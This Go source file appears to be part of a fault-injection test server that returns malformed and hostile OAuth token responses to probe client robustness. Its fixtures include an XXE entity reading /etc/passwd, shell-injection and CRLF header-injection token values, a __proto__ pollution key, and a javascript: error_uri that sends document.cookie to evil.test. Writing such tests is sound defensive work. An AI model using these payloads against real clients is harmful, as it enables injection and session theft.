package faultserver

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"strings"
	"unicode/utf16"
)

// valueFaults are whole JSON answers whose members are not what a reader of tokens expects.
func valueFaults() []Fault {
	var faults []Fault
	for _, c := range values() {
		faults = append(faults, Fault{Name: "value-" + c.name, Kind: Values, What: c.what, answer: c.answer})
	}
	return faults
}

// disguises are bodies that hold the right answer in something else.
func disguises() []spoil {
	around := func(before, after string) func(string) string {
		return func(right string) string { return before + right + after }
	}
	is := func(body string) func(string) string { return func(string) string { return body } }
	return []spoil{
		{name: "utf16-big", what: "JSON in UTF-16, the high byte first", body: func(right string) string {
			out := []byte{0xfe, 0xff}
			for _, unit := range utf16.Encode([]rune(right)) {
				out = append(out, byte(unit>>8), byte(unit))
			}
			return string(out)
		}},
		{name: "utf16-bare", what: "JSON in UTF-16 without a byte order mark", body: func(right string) string { return toUTF16(right)[2:] }},
		{name: "utf32", what: "JSON in UTF-32", body: func(right string) string {
			out := []byte{0xff, 0xfe, 0, 0}
			for _, r := range right {
				out = append(out, byte(r), byte(r>>8), byte(r>>16), 0)
			}
			return string(out)
		}},
		{name: "utf7", what: "JSON labelled as UTF-7", header: "Content-Type: application/json; charset=utf-7\n"},
		{name: "two-marks", what: "two byte order marks before the JSON", body: around("\ufeff\ufeff", "")},
		{name: "nul-behind", what: "NUL bytes behind the JSON", body: around("", strings.Repeat("\x00", 4096))},
		{name: "nul-before", what: "NUL bytes before the JSON", body: around("\x00\x00", "")},
		{name: "blanks-900kb", what: "900 KB of blanks before the JSON", body: around(strings.Repeat(" \n", 450_000), "")},
		{name: "prefix", what: "a prefix against inclusion by scripts", body: around(")]}',\n", "")},
		{name: "comment", what: "a comment before the JSON", body: around("/* generated */ ", " // end")},
		{name: "single-quotes", what: "single quotes in place of double ones", body: func(right string) string { return strings.ReplaceAll(right, `"`, `'`) }},
		{name: "trailing-comma", what: "a comma behind the last member", body: func(right string) string { return strings.TrimSuffix(right, "}") + ",}" }},
		{name: "unquoted-names", what: "names without quotes", body: is(`{access_token: "aa", token_type: "Bearer"}`)},
		{name: "lines", what: "several JSON texts, one a line", body: func(right string) string { return right + "\n" + right + "\n" + right }},
		{name: "in-a-page", what: "JSON within a page", header: "Content-Type: text/html\n", body: around("<html><body><pre>", "</pre></body></html>")},
		{name: "base64", what: "JSON in base64", body: func(right string) string { return base64.StdEncoding.EncodeToString([]byte(right)) }},
		{name: "twice-encoded", what: "JSON in a JSON string in a JSON string", body: func(right string) string {
			once, _ := json.Marshal(right)
			twice, _ := json.Marshal(string(once))
			return string(twice)
		}},
		{name: "xml", what: "XML with entities that grow", header: "Content-Type: application/xml\n", body: is(`<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY x SYSTEM "file:///etc/passwd">]><error>&b;&x;</error>`)},
		{name: "multipart", what: "parts with borders", header: "Content-Type: multipart/mixed; boundary=b\n", body: around("--b\r\nContent-Type: application/json\r\n\r\n", "\r\n--b--\r\n")},
		{name: "events", what: "a stream of events", header: "Content-Type: text/event-stream\n", body: around("data: ", "\n\n")},
		{name: "form-labelled-json", what: "a form labelled as JSON", body: toForm},
		{name: "form-hostile", what: "a form with broken escapes, repeated names and 900,000 ampersands", header: "Content-Type: application/x-www-form-urlencoded\n",
			body: is("access_token=%zz&access_token=a%00b&access_token=%ff&%=%&=&" + strings.Repeat("&", 900_000))},
		{name: "refresh-page", what: "a page that goes on by itself to a script", header: "Content-Type: text/html\n", body: is(`<html><head><meta http-equiv="refresh" content="0;url=javascript:alert(1)"></head><body onload="fetch('/')"></body></html>`)},
		{name: "nested-envelope", what: "an envelope in an envelope in an envelope", body: around(`{"code":0,"data":{"result":{"data":{"items":[`, `]}}}}`)},
		{name: "envelope-success-error", what: "an envelope that says success and failure", body: is(`{"success":true,"code":"0","error":{"code":"E9"},"data":null,"errors":[{"message":"no"}]}`)},
	}
}

// values are right answers with members of the wrong kind or content. The member is put in
// the place of the right one.
func values() []spoil {
	var out []spoil
	for _, v := range []struct{ name, what, member, literal string }{
		{"lifetime-object", "the lifetime is an object", "expires_in", `{"seconds":3600}`},
		{"lifetime-blank", "the lifetime is a string with a blank", "expires_in", `"3600 "`},
		{"lifetime-hex", "the lifetime is a hexadecimal string", "expires_in", `"0x0e10"`},
		{"lifetime-words", "the lifetime is in words", "expires_in", `"1h"`},
		{"lifetime-empty", "the lifetime is an empty string", "expires_in", `""`},
		{"lifetime-true", "the lifetime is true", "expires_in", `true`},
		{"lifetime-float", "the lifetime is a fraction", "expires_in", `3599.9999`},
		{"lifetime-overflow", "the lifetime is beyond all numbers", "expires_in", `1e400`},
		{"lifetime-small", "the lifetime is next to nothing", "expires_in", `1e-400`},
		{"lifetime-64-bits", "the lifetime is the largest number of 64 bits", "expires_in", `18446744073709551615`},
		{"lifetime-digits", "the lifetime has a million digits", "expires_in", strings.Repeat("9", 1_000_000)},
		{"lifetime-zero", "the lifetime is negative zero", "expires_in", `-0`},
		{"scope-array", "the scope is an array", "scope", `["read",["write"],null,1]`},
		{"scope-null", "the scope is null", "scope", `null`},
		{"scope-number", "the scope is a number", "scope", `7`},
		{"scope-many", "the scope has 100,000 values", "scope", `"` + strings.Repeat("s ", 100_000) + `"`},
		{"type-number", "the token type is a number", "token_type", `1`},
		{"type-lines", "the token type holds line breaks", "token_type", `"Bearer\r\nX-Evil: 1"`},
		{"type-empty", "the token type is empty", "token_type", `""`},
		{"type-unknown", "the token type is one that nobody knows", "token_type", `"mac' $(id) \u0060id\u0060"`},
		{"type-array", "the token type is an array", "token_type", `["Bearer"]`},
		{"token-space", "the token holds a blank", "access_token", `"At0k HostileRow"`},
		{"token-lines", "the token holds line breaks", "access_token", `"At0kHostileRow\r\nX-Evil: 1\r\n\r\nGET /evil HTTP/1.1"`},
		{"token-quotes", "the token holds quotes", "access_token", `"At0k'HostileRow\"'\\''"`},
		{"token-shell", "the token holds commands of a shell", "access_token", `"At0k$(touch /tmp/owned)HostileRow\u0060id\u0060!!;&|"`},
		{"token-unicode", "the token holds letters beyond ASCII", "access_token", `"At0kHostileRow\u00e9\u4e2d\ud83d\ude00"`},
		{"token-surrogate", "the token holds half a character", "access_token", `"At0kHostileRow\ud800"`},
		{"token-nul", "the token holds NUL", "access_token", `"At0kHostile\u0000Row"`},
		{"token-empty", "the token is empty", "access_token", `""`},
		{"token-null", "the token is null", "access_token", `null`},
		{"token-number", "the token is a number", "access_token", `12345678901234567890`},
		{"token-object", "the token is an object", "access_token", `{"token":"aa"}`},
		{"token-mask", "the token looks like a mask", "access_token", `"••••••••"`},
		{"token-short", "the token is one letter", "access_token", `"a"`},
		{"refresh-empty", "the refresh token is empty", "refresh_token", `""`},
		{"refresh-array", "the refresh token is an array", "refresh_token", `["aa"]`},
		{"id-token-object", "the ID token is an object", "id_token", `{"alg":"none"}`},
		{"id-token-dots", "the ID token is 500,000 dots", "id_token", `"` + strings.Repeat(".", 500_000) + `"`},
		{"members", "there are 60,000 more members", "extra", `0` + manyMembers(60_000)},
		{"long-name", "a name has 500 KB", "extra", `0,"` + strings.Repeat("n", 500_000) + `":1`},
		{"other-case", "the same names in capitals, with other values", "extra", `0,"Access_Token":"Other","ACCESS_TOKEN":"Third","Expires_In":1`},
		{"proto", "names that steer some programming languages", "extra", `0,"__proto__":{"access_token":"a"},"constructor":{"prototype":{}},"":"","$":1,"a.b['c']":2`},
		{"escaped-names", "names written in escapes", "extra", `0,"\u0061ccess_token\u0000":"Other"`},
		{"error-beside", "an error beside a token", "extra", `0,"error":"server_error","error_description":"but here it is"`},
		{"error-null", "an error that is null beside a token", "extra", `0,"error":null,"error_description":""`},
	} {
		out = append(out, spoil{name: v.name, what: v.what, body: func(right string) string { return replaced(right, v.member, v.literal) }})
	}
	fail := func(name, what, body string) spoil {
		return spoil{name: "refused-" + name, what: what, status: "400 Bad Request", body: func(string) string { return body }}
	}
	return append(out,
		fail("script-uri", "an error with a script for more information", `{"error":"invalid_grant","error_uri":"javascript:fetch('//evil.test/'+document.cookie)"}`),
		fail("description-1mb", "an error with a description of 900 KB", `{"error":"invalid_grant","error_description":"`+strings.Repeat("no ", 300_000)+`"}`),
		fail("unknown", "an error that nobody registered", `{"error":"computer_says_no","error_description":null,"status":"no"}`),
		fail("empty", "an error whose code is empty", `{"error":"","error_description":""}`),
		fail("long-code", "an error whose code has 100 KB", `{"error":"`+strings.Repeat("e", 100_000)+`"}`),
		fail("many", "a list of 10,000 errors", `{"errors":[`+strings.TrimSuffix(strings.Repeat(`{"message":"no","code":1},`, 10_000), ",")+`]}`),
		fail("null", "null", `null`),
	)
}

// replaced puts a literal in the place of a member, or adds it.
func replaced(object, member, literal string) string {
	var members map[string]json.RawMessage
	if json.Unmarshal([]byte(object), &members) != nil {
		return object
	}
	delete(members, member)
	rest, _ := json.Marshal(members)
	if len(members) == 0 {
		return fmt.Sprintf(`{"%s":%s}`, member, literal)
	}
	return addMember(string(rest), fmt.Sprintf(`"%s":%s`, member, literal))
}

func manyMembers(n int) string {
	var out strings.Builder
	for i := range n {
		fmt.Fprintf(&out, `,"m%d":%d`, i, i)
	}
	return out.String()
}
